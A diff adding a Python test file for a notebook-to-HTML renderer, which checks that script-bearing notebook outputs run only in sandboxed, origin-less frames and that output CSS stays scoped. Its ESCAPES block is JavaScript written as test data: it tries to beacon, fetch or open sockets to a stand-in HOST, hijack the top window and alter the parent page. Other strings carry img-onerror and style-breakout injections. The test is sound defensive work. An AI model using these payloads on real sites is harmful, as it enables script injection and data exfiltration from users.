@@ -1,0 +1,320 @@
+"""Outputs that run: in frames without an origin and a network, and nowhere else."""
+
+from __future__ import annotations
+
+import json
+import re
+import socketserver
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from playwright.sync_api import Browser
+from watched import watch
+
+from pagemill import article, frames, inert, parts, plan, provenance, saved
+from pagemill import page as render
+from pagemill.markdown import Rules
+from rounding.errors import ParameterError
+
+PLOTLY = "application/vnd.plotly.v1+json"
+CHART = {PLOTLY: {"data": [{"y": [1, 2]}], "layout": {}}}
+
+
+def notebook(*cells: list[dict[str, Any]]) -> nbformat.NotebookNode:
+    """A notebook that was run: of each cell the data of its outputs."""
+    made = [
+        nbformat.v4.new_code_cell(
+            "show()",
+            id=f"cell-{number}",
+            outputs=[nbformat.v4.new_output("display_data", data=one) for one in data],
+        )
+        for number, data in enumerate(cells)
+    ]
+    return nbformat.v4.new_notebook(cells=made)
+
+
+def read(
+    folder: Path, *cells: list[dict[str, Any]], interactive: str = "sandboxed"
+) -> tuple[str, list[str], list[str]]:
+    """What stands on the page, what is lost, and what its frames are made of."""
+    rules = Rules("made", interactive)
+    blocks = article.read(notebook(*cells), rules, folder).blocks
+    html = "".join(str(output) for block in blocks for output in block.outputs)
+    held = rules.frames.held()
+    for name, text in held.get("libraries", {}).items():
+        held["documents"] = [
+            re.sub(rf'(data-ct-library="{name}"[^>]*>)', rf"\1{text}", one)
+            for one in held["documents"]
+        ]
+    return html, rules.lost, held.get("documents", [])
+
+
+@pytest.fixture
+def scripts(tmp_path: Path) -> Path:
+    """A notebook's folder that has scripts of its own."""
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "plotly.min.js").write_text("var Plotly = 'held';")
+    return tmp_path
+
+
+#: Outputs as libraries write them, and what of them must be in the frame.
+RUNNING: dict[str, tuple[dict[str, Any], str]] = {
+    "plotly": (CHART, "Plotly.newPlot('shown', made.data"),
+    "altair": (
+        {"text/html": "<div id=v></div><script>vegaEmbed(spec)</script>"},
+        "<script>vegaEmbed(spec)</script>",
+    ),
+    "vega": ({"application/vnd.vegalite.v5+json": {"mark": "bar"}}, '{"mark": "bar"}'),
+    "a script": ({"application/javascript": "draw()"}, "<script>draw()</script>"),
+    "folium": (
+        {
+            "text/html": '<iframe srcdoc="&lt;script&gt;map(&quot;x&quot;)&lt;/script&gt;">'
+            "</iframe>"
+        },
+        '<script>map("x")</script>',
+    ),
+    "a widget": (
+        {"application/vnd.jupyter.widget-view+json": {"model_id": "abc"}},
+        '{"model_id": "abc"}',
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", RUNNING)
+def test_what_runs_is_in_a_frame_and_not_on_the_page(kind: str, scripts: Path) -> None:
+    data, kept = RUNNING[kind]
+    html, _, documents = read(scripts, [data])
+    assert 'data-ct-frame="0"' in html
+    assert not re.search("<script|<iframe", html)
+    assert len(documents) == 1
+    assert kept in documents[0]
+
+
+@pytest.mark.parametrize("kind", RUNNING)
+def test_what_runs_is_left_out_unless_it_is_asked_for(kind: str, scripts: Path) -> None:
+    html, lost, documents = read(scripts, [RUNNING[kind][0]], interactive="left out")
+    assert "shown in a frame of its own where the plan says interactive = " in html
+    assert (len(lost), documents) == (1, [])
+
+
+def test_a_script_is_taken_from_the_folder_and_held_once(scripts: Path) -> None:
+    rules = Rules("made", "sandboxed")
+    article.read(notebook([CHART], [CHART]), rules, scripts)
+    held = rules.frames.held()
+    assert list(held["libraries"].values()) == ["var Plotly = 'held';"]
+    assert all("data-ct-library" in document for document in held["documents"])
+    assert rules.lost == []
+    # A report is due when it changes.
+    (scripts / "a.ipynb").write_text("{}")
+    assert [*provenance.helpers(scripts / "a.ipynb")] == ["scripts/plotly.min.js"]
+
+
+def test_a_script_that_is_not_here_is_named(tmp_path: Path) -> None:
+    page = '<script src="https://example.org/leaf.js?v=1"></script><script>L()</script>'
+    _, lost, documents = read(tmp_path, [{"text/html": page}])
+    assert lost == [
+        "the output of the cell that begins 'show()' lacks https://example.org/leaf.js?v=1:"
+        " put such files into scripts/ beside the notebook"
+    ]
+    assert "example.org" not in documents[0]
+
+
+def test_what_a_cell_loads_is_there_for_those_that_follow(tmp_path: Path) -> None:
+    """bokeh's `output_notebook()`; its chart is a place, and a script that fills it."""
+    load = {
+        "application/javascript": "LIBRARY",
+        "application/vnd.bokehjs_load.v0+json": "",
+    }
+    place = {"text/html": '<div id="b"></div>'}
+    html, _, documents = read(
+        tmp_path, [load], [place, {"application/javascript": "fill()"}]
+    )
+    assert html.count("data-ct-frame") == 1
+    body = documents[0].partition("<body>")[2]
+    assert body.startswith(
+        '<script>LIBRARY</script><div id="b"></div><script>fill()</script>'
+    )
+
+
+def test_the_static_form_is_there_where_no_script_runs(tmp_path: Path) -> None:
+    frame = {
+        "text/html": "<table hidden><tr><td>Loading…</td></tr></table><script>t()</script>",
+        "text/plain": "   a\n0  1",
+    }
+    for interactive in ("sandboxed", "left out"):
+        html, _, _ = read(tmp_path, [frame], interactive=interactive)
+        assert "<pre>   a\n0  1</pre>" in html
+
+
+def test_a_plan_may_ask_for_frames(waves: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "notebooks"
+    folder.mkdir()
+    nbformat.write(nbformat.v4.new_notebook(), folder / "wave.ipynb")
+    entry = '[[report]]\nnotebook = "wave"\ninteractive = "{}"\n'
+    (folder / "reports.toml").write_text(entry.format("sandboxed"))
+    (run,) = plan.load_plan(folder / "reports.toml").runs
+    assert run.setting("interactive") == "sandboxed"
+    (folder / "reports.toml").write_text(entry.format("sandbox"))
+    with pytest.raises(ParameterError, match="did you mean 'sandboxed'"):
+        plan.load_plan(folder / "reports.toml")
+
+
+#: What would speak to another host, read what is not its own, or leave the frame. HOST listens.
+ESCAPES = """
+const reach = "http://HOST/", tries = [
+  () => fetch(reach + "fetch"),
+  () => { new Image().src = reach + "image"; },
+  () => { const s = document.createElement("script"); s.src = reach + "x.js";
+      document.body.append(s); },
+  () => { new WebSocket("ws://HOST/socket"); },
+  () => { new EventSource(reach + "events"); },
+  () => navigator.sendBeacon(reach + "beacon", "x"),
+  () => { new Worker(reach + "worker.js"); },
+  () => { const f = document.createElement("iframe"); f.src = reach + "frame";
+      document.body.append(f); },
+  () => { for (const rel of ["stylesheet", "preload", "prefetch", "icon", "manifest"]) {
+      const l = document.createElement("link"); l.rel = rel; l.href = reach + rel; l.as = "image";
+      document.head.append(l); } },
+  () => { document.body.insertAdjacentHTML("beforeend", `<img src="${reach}html"
+      onerror="top.postMessage('handler', '*')"><video src="${reach}video"></video>
+      <div style="background:url(${reach}style)">x</div>`); },
+  () => { const f = document.createElement("form"); f.action = reach + "form";
+      document.body.append(f); f.submit(); },
+  () => { document.body.insertAdjacentHTML("beforeend",
+      `<meta http-equiv="refresh" content="0;url=${reach}refresh">`); },
+  () => import(reach + "module.js"),
+  () => { open(reach + "window"); },
+  () => { top.location = reach + "top"; },
+  () => { parent.document.documentElement.dataset.pwned = "parent"; },
+  () => { localStorage.x = 1; },
+  () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}]});
+      p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
+];
+for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch { } }
+console.log(`canary ${origin}`);
+setTimeout(() => { location = reach + "leave"; }, 500);
+"""
+
+
+class Listener(socketserver.ThreadingTCPServer):
+    """Whoever connects is noted."""
+
+    heard: list[bytes]
+    daemon_threads = True
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    class Handler(socketserver.BaseRequestHandler):
+        def handle(self) -> None:
+            # Chromium may open a connection before it asks the policy, and then says nothing.
+            if said := self.request.recv(60):
+                heard.append(said)
+
+    heard: list[bytes] = []
+    with Listener(("127.0.0.1", 0), Handler) as server:
+        server.heard = heard
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield server
+        server.shutdown()
+        thread.join()
+
+
+def made_page(tmp_path: Path, escapes: str) -> Path:
+    folder = tmp_path / "notebooks"
+    folder.mkdir()
+    nbformat.write(nbformat.v4.new_notebook(), folder / "wave.ipynb")
+    run = plan.make_run("wave", folder, {}, interactive="sandboxed")
+    block = {"slug": run.slug, "inputs": provenance.inputs(run, tmp_path)}
+    html = f"<p>words</p><script>{escapes}</script>"
+    nested = html.replace("&", "&amp;").replace('"', "&quot;")
+    outputs: list[dict[str, Any]] = [
+        {"text/html": html},
+        {"text/html": f'<iframe srcdoc="{nested}"></iframe>'},
+        {"application/javascript": escapes},
+        {"text/html": f'<img src=x onerror="{RUN}"><script>1</script>'},
+        {"text/html": f'<div data-ct-frame="0" id="{frames.ID}"></div>'},
+    ]
+    file = tmp_path / f"{run.slug}.html"
+    file.write_text(render.page(notebook(*[[one] for one in outputs]), run, block))
+    return file
+
+
+RUN = "document.documentElement.dataset.pwned = 1"
+
+
+@pytest.mark.browser
+def test_nothing_leaves_a_frame_and_nothing_runs_outside(
+    waves: Path, tmp_path: Path, browser: Browser, listener: Listener
+) -> None:
+    host = f"127.0.0.1:{listener.server_address[1]}"
+    file = made_page(tmp_path, ESCAPES.replace("HOST", host))
+    watched = watch(browser, file)
+    page = watched.page
+    page.wait_for_timeout(300)
+    # They do run, each without an origin.
+    assert [text for text in watched.said if "canary" in text] == [
+        "log: canary null"
+    ] * 3
+    page.wait_for_timeout(1200)
+    assert listener.heard == []
+    assert page.evaluate("document.documentElement.dataset.pwned") is None
+    assert page.url == file.as_uri()
+    assert len(page.context.pages) == 1
+    assert page.evaluate("document.scripts.length") == 3
+    sandboxes = page.evaluate(
+        "[...document.querySelectorAll('iframe')].map(e => e.sandbox.value)"
+    )
+    assert sandboxes == ["allow-scripts"] * 4
+    page.context.close()
+
+
+@pytest.mark.browser
+def test_what_the_test_above_listens_for_is_heard(
+    tmp_path: Path, browser: Browser, listener: Listener
+) -> None:
+    host = f"127.0.0.1:{listener.server_address[1]}"
+    bad = tmp_path / "bad.html"
+    bad.write_text(f"<body><script>{ESCAPES.replace('HOST', host)}</script>")
+    page = browser.new_context().new_page()
+    page.goto(bad.as_uri(), wait_until="commit")
+    page.wait_for_timeout(800)
+    assert len(listener.heard) > 3
+    page.context.close()
+
+
+def test_a_page_says_whether_its_frames_are_its_own(
+    waves: Path, tmp_path: Path
+) -> None:
+    file = made_page(tmp_path, "1")
+    page = saved.open_page(file)
+    assert parts.strange(page) == []
+    held = json.loads(parts._FRAMES.search(page.text)[1])  # type: ignore[index]
+    assert set(held) == {"documents", "libraries"}
+    changed = page.text.replace("\\u003cp>words", "\\u003cscript>2\\u003c/script>")
+    file.write_text(changed)
+    assert parts.strange(saved.open_page(file)) == [
+        "its policy is none that this version writes"
+    ]
+
+
+#: CSS of an output, and what of it stays.
+STYLES = {
+    "#T_1 td {color: red}": ".o #T_1 td {color: red}",
+    "a, + p, b ~ c, :root {top: 0}": ".o a, .o :root {top: 0}",
+    "a {background: url(https://example.org)}": "",
+    "a {position: fixed}": "",
+    "@import 'x'; @media print {a {color: red}} b {left: 0}": ".o b {left: 0}",
+    "a {} </style><script>": ".o a {}",
+    "a:is(b, c) {color: red} d {color: blue}": ".o d {color: blue}",
+}
+
+
+@pytest.mark.parametrize("style", STYLES)
+def test_a_style_reaches_only_its_own_output(style: str) -> None:
+    assert inert.rules(style, ".o") == STYLES[style]
